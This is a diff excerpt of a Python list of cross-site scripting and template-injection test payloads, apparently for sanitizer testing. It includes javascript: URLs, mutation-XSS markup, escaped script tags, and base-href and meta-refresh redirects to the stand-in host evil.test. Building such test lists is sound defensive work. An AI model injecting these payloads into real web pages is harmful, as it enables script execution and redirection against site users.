@@ -37,7 +37,7 @@ PAYLOADS = [
     "javascript:alert(7)",
     "{{alert(8)}}{{7*191}}{% print 7*191 %}${7*191}",
     '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe>',
-    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>"
+    "<math><mtext><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>",
     "\\u003cscript\\u003ealert(11)\\u003c/script\\u003e\u2028\uff1cscript\uff1e",
     "&lt;b onclick=alert(12)&gt;<a href='jav&#x09;ascript:alert(13)' id=x>x</a>",
     "<base href=//evil.test><meta http-equiv=refresh content=0;//evil.test>",
